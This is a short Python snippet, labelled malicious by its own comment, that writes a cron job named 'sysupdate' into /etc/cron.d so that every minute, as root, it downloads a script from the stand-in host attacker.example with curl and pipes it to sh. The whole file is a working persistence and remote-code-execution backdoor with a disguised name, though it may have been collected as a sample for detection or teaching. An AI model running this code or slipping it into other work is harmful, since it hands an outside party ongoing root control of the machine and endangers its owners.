# Malicious: drops a job in /etc/cron.d that fetches and runs a remote script every minute.
from pathlib import Path

Path("/etc/cron.d/sysupdate").write_text("* * * * * root curl -s http://attacker.example/u.sh | sh\n")
